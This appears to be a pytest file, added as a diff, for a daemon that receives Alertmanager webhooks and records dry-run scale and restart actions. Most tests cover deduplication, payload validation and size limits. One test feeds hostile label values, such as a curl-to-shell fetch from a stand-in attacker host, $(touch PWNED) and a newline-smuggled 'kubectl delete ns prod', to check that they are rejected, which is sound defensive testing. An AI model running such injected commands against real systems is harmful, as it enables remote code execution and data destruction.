@@ -1,0 +1,286 @@
+"""The webhook receiver, fed the payloads a real Alertmanager sends."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from tests.daemon.conftest import Daemon, MakeDaemon
+from tests.daemon.payloads import alert, body, notification, resolved
+
+P95 = "LLMLatencyP95Critical"
+
+
+async def test_real_capture_is_accepted(daemon: Daemon, shared_samples: Path) -> None:
+    """A notification captured from Alertmanager 0.25 is accepted as one new episode."""
+    data = (shared_samples / "alertmanager" / "real-am-0.25-firing.json").read_bytes()
+
+    status, reply = await daemon.post(data)
+
+    assert (status, reply["new"], reply["alerts"]) == (200, 1, 1)
+
+
+async def test_firing_alert_gives_one_dry_run_decision_in_the_history(daemon: Daemon) -> None:
+    """A p95 critical alert is answered by one recorded dry-run scale of the gateway."""
+    item = alert(P95, fingerprint="a1b2c3d4e5f60708")
+
+    status, _ = await daemon.post(notification(item))
+    await daemon.settle()
+    code, history = await daemon.api("GET", "/api/v1/actions")
+
+    assert status == 200 and code == 200
+    [entry] = history
+    assert {k: entry[k] for k in ("type", "target", "outcome")} == {
+        "type": "scale", "target": "default/deployment/llm-gateway", "outcome": "dry_run"}
+    assert entry["command"] == ("kubectl scale deployment llm-gateway --replicas=5"
+                                " --namespace=default")
+    assert entry["reason"].startswith("would run: kubectl scale")
+    assert entry["alert"] == {"alertname": P95, "fingerprint": "a1b2c3d4e5f60708",
+                              "startsAt": "2024-05-01T10:00:00.000000+00:00"}
+    assert isinstance(entry["id"], int) and entry["time"].startswith("2024-05-01T10:00:30")
+
+
+async def test_each_alert_is_judged_by_its_own_status(make_daemon: MakeDaemon) -> None:
+    """A group that is firing with one resolved alert acts only on the firing one (FR 4)."""
+    daemon = await make_daemon(raw=_custom("HighLatencyP99", "scale", replicas=5))
+    checkout = alert("HighLatencyP99", namespace="shop", deployment="checkout",
+                     fingerprint="1111111111111111")
+    payments = alert("HighLatencyP99", status="resolved", namespace="shop",
+                     deployment="payments", starts_at="2024-05-01T09:40:00Z",
+                     ends_at="2024-05-01T09:58:00Z", fingerprint="2222222222222222")
+    document = notification(checkout, payments)
+    document["commonLabels"] = {"alertname": "HighLatencyP99", "namespace": "shop"}
+
+    await daemon.post(document)
+    await daemon.settle()
+
+    assert [(d.type, d.target, d.outcome) for d in await daemon.decisions()] == [
+        ("scale", "shop/deployment/checkout", "dry_run")]
+
+
+async def test_resolved_notification_closes_the_episode_without_acting(
+        make_daemon: MakeDaemon) -> None:
+    """A resolve never runs the action again (FR 5) and records the time to recovery."""
+    daemon = await make_daemon(raw=_custom("KubePodCrashLooping", "restart"))
+    item = alert("KubePodCrashLooping", namespace="shop", deployment="api")
+
+    await daemon.post(notification(item))
+    await daemon.settle()
+    daemon.clock.advance(360)
+    await daemon.post(notification(resolved(item)))
+    await daemon.settle()
+
+    assert [(d.type, d.target) for d in await daemon.decisions()] == [
+        ("restart", "shop/deployment/api")]
+    assert daemon.sample("remediator_recovery_seconds_count") == 1
+    assert daemon.sample("remediator_recovery_seconds_sum") == 360
+
+
+async def test_ha_duplicates_make_one_decision(daemon: Daemon) -> None:
+    """The same group from both Alertmanagers of an HA pair, firing and resolved (FR 1)."""
+    item = alert(P95)
+    am1 = "http://am-1.example.internal:9093"
+
+    replies = [await daemon.post(notification(item)),
+               await daemon.post(notification(item, external_url=am1))]
+    await daemon.settle()
+    daemon.clock.advance(360)
+    replies += [await daemon.post(notification(resolved(item))),
+                await daemon.post(notification(resolved(item), external_url=am1))]
+    await daemon.settle()
+
+    assert [status for status, _ in replies] == [200] * 4
+    assert [reply["repeat"] for _, reply in replies] == [False, True, False, True]
+    assert len(await daemon.decisions()) == 1
+    assert daemon.sample("remediator_notifications_total", result="repeat") == 2
+    assert daemon.sample("remediator_recovery_seconds_count") == 1
+
+
+async def test_late_firing_copy_does_not_reopen_a_resolved_episode(daemon: Daemon) -> None:
+    """A firing send that arrives after the resolve (slow HA peer) changes nothing."""
+    item = alert(P95)
+
+    await daemon.post(notification(item))
+    await daemon.post(notification(resolved(item)))
+    status, reply = await daemon.post(notification(item))
+    await daemon.settle()
+
+    assert (status, reply["repeat"]) == (200, True)
+    assert daemon.services.remediation.book.firing(now=daemon.clock()) == []
+
+
+async def test_retry_storm_of_one_payload_gives_one_action(daemon: Daemon) -> None:
+    """One payload sent 200 times, 20 at once, gives one decision and 199 repeats."""
+    data = body(notification(alert(P95)))
+    gate = asyncio.Semaphore(20)
+
+    async def send() -> int:
+        async with gate:
+            status, _ = await daemon.post(data)
+            return status
+
+    statuses = await asyncio.gather(*(send() for _ in range(200)))
+    await daemon.settle()
+
+    assert set(statuses) == {200}
+    assert len(await daemon.decisions()) == 1
+    assert daemon.sample("remediator_notifications_total", result="new") == 1
+    assert daemon.sample("remediator_notifications_total", result="repeat") == 199
+
+
+async def test_legacy_and_malformed_bodies_are_refused_with_the_field(
+        daemon: Daemon, shared_samples: Path) -> None:
+    """v3, non-JSON, wrong types and a missing alerts list get 400 naming the field."""
+    legacy = (shared_samples / "alertmanager" / "prometheus-bot-legacy-v3.json").read_bytes()
+    wrong_type = body({**notification(alert(P95)), "alerts": {"a": 1}})
+    missing = body({k: v for k, v in notification(alert(P95)).items() if k != "alerts"})
+    bad_label = body(notification(alert(P95, replicas="5")) | {"alerts": [
+        {**alert(P95), "labels": {"alertname": P95, "replicas": 5}}]})
+
+    replies = [await daemon.post(data) for data in
+               (legacy, b"not json", b"[1, 2]", wrong_type, missing, bad_label)]
+
+    assert [status for status, _ in replies] == [400] * 6
+    assert [reply["field"] for _, reply in replies] == [
+        "version", None, None, "alerts", "alerts", "alerts[0].labels.replicas"]
+    assert daemon.sample("remediator_webhook_requests_total", code="400") == 6
+    assert daemon.sample("remediator_notifications_total", result="rejected") == 6
+    assert await daemon.decisions() == []
+
+
+async def test_body_over_the_limit_is_413(daemon: Daemon) -> None:
+    """A 15 MiB group is refused with 413, not a 500 and not an out-of-memory."""
+    filler = "x" * 600
+    alerts = [alert(P95, pod=f"pod-{n}", fingerprint=f"{n:016x}",
+                    annotations={"description": filler}) for n in range(20000)]
+    data = body(notification(*alerts))
+    assert len(data) > 15 * 1024 * 1024
+
+    status, _ = await daemon.post(data)
+
+    assert status == 413
+    assert daemon.sample("remediator_webhook_requests_total", code="413") == 1
+
+
+async def test_storm_group_of_3000_alerts_gives_one_action(daemon: Daemon) -> None:
+    """A 1.6 MB group with truncatedAlerts is accepted and makes one decision (FR 8)."""
+    filler = "y" * 400
+    alerts = [alert(P95, namespace="shop", deployment="checkout", pod=f"checkout-{n}",
+                    annotations={"description": filler}) for n in range(3000)]
+    data = body(notification(*alerts, truncated=1200))
+    assert len(data) > 1_500_000
+
+    status, reply = await daemon.post(data)
+    await daemon.settle()
+
+    assert (status, reply["new"]) == (200, 3000)
+    assert len(await daemon.decisions()) == 1
+    assert daemon.sample("remediator_truncated_alerts_total") == 1200
+
+
+async def test_alerts_for_one_target_in_one_notification_make_one_decision(
+        make_daemon: MakeDaemon) -> None:
+    """Four alerts of one rule (FR 9) or three rules (FR 10) on one target: one action."""
+    daemon = await make_daemon(raw=_custom(
+        ("KubePodCrashLooping", "KubePodNotReady", "KubeContainerWaiting"), "restart"))
+    rules = ("KubePodCrashLooping", "KubePodNotReady", "KubeContainerWaiting")
+    alerts = [alert(name, namespace="shop", deployment="api", pod=f"api-{n}")
+              for n, name in enumerate(rules)]
+
+    await daemon.post(notification(*alerts))
+    await daemon.settle()
+
+    [decision] = await daemon.decisions()
+    assert (decision.type, decision.target) == ("restart", "shop/deployment/api")
+    assert len(decision.episodes) == 3
+
+
+async def test_three_rules_in_concurrent_notifications_make_one_restart(
+        make_daemon: MakeDaemon) -> None:
+    """Three groups posted at once, each asking to restart shop/api: one restart (FR 10 B)."""
+    rules = ("KubePodCrashLooping", "KubePodNotReady", "KubeContainerWaiting")
+    daemon = await make_daemon(raw=_custom(rules, "restart"))
+
+    await asyncio.gather(*(
+        daemon.post(notification(alert(name, namespace="shop", deployment="api")))
+        for name in rules))
+    await daemon.settle()
+
+    done = [d for d in await daemon.decisions() if d.outcome == "dry_run"]
+    assert [(d.type, d.target) for d in done] == [("restart", "shop/deployment/api")]
+
+
+async def test_injection_in_labels_never_becomes_an_action(
+        make_daemon: MakeDaemon, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Target labels that try shell injection are rejected and recorded; the reply is 2xx."""
+    monkeypatch.chdir(tmp_path)
+    daemon = await make_daemon(raw=_custom("HighLatencyP99", "scale", replicas=5))
+    hostile = [
+        {"namespace": "shop", "deployment": "checkout'; curl -s http://attacker.invalid/x | sh"},
+        {"namespace": "shop", "deployment": "$(touch PWNED)"},
+        {"namespace": "shop\nkubectl delete ns prod", "deployment": "checkout"},
+        {"namespace": "shop", "deployment": "Checkout_Service"},
+    ]
+    alerts = [alert("HighLatencyP99", annotations={"summary": "`id` and $(id) and '\"q\""},
+                    **labels) for labels in hostile]
+
+    status, _ = await daemon.post(notification(*alerts))
+    await daemon.settle()
+
+    decisions = await daemon.decisions()
+    assert status == 200
+    assert [(d.outcome, d.skip, d.command) for d in decisions] == [
+        ("skipped", "invalid_target", None)] * 4
+    assert daemon.sample("remediator_skips_total", reason="invalid_target") == 4
+    assert "PWNED" not in os.listdir(tmp_path)
+
+
+async def test_namespace_outside_the_allowed_ones_is_an_unknown_target(
+        make_daemon: MakeDaemon) -> None:
+    """A custom alert naming a namespace we may not touch is rejected as unknown_target."""
+    daemon = await make_daemon(raw=_custom("HighLatencyP99", "scale", replicas=5))
+
+    await daemon.post(notification(alert("HighLatencyP99", namespace="kube-system",
+                                         deployment="coredns")))
+    await daemon.settle()
+
+    [decision] = await daemon.decisions()
+    assert (decision.outcome, decision.skip) == ("skipped", "unknown_target")
+
+
+async def test_group_key_with_quotes_is_opaque(daemon: Daemon, caplog: object) -> None:
+    """A groupKey full of braces and quotes, and non-ASCII labels, round-trip safely (FR 7)."""
+    group_key = ('{}/{severity=~"^(?:page)$"}:{alertname="LLMLatencyP95Critical",'
+                 ' namespace="shop"}')
+    item = alert(P95, team="équipe-paiement")
+
+    status, _ = await daemon.post(notification(item, group_key=group_key))
+    await daemon.settle()
+    _, firing = await daemon.api("GET", "/api/v1/alerts")
+
+    assert status == 200
+    assert firing[0]["labels"]["team"] == "équipe-paiement"
+
+
+def _custom(names: str | tuple[str, ...], action: str, **fields: object) -> dict[str, object]:
+    """A settings document mapping custom alerts to an action, targets from labels."""
+    alertnames = (names,) if isinstance(names, str) else names
+    return {
+        "targets": {"allowed_namespaces": ["default", "shop"]},
+        "alerts": {"custom": [
+            {"alertname": name, "action": action, "priority": 1, **fields}
+            for name in alertnames
+        ]},
+    }
+
+
+def test_payload_helper_writes_compact_json() -> None:
+    """The helper writes Alertmanager's compact single-line JSON."""
+    data = body(notification(alert(P95)))
+
+    assert data.endswith(b"}\n") and b"\n" not in data[:-1]
+    assert json.loads(data)["version"] == "4"
